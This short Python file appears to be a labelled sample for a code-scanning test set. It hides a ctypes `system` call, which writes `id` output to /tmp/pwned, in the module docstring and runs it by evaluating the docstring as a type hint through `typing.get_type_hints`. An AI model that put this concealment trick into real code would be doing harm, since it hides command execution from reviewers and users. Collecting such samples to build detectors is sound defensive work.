# harm: loads native code with ctypes ; trick: code hidden in the module docstring, bound via Kind = __doc__
"""__import__('ctypes').CDLL(None).system(b'id > /tmp/pwned')"""
import typing

Kind = __doc__


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
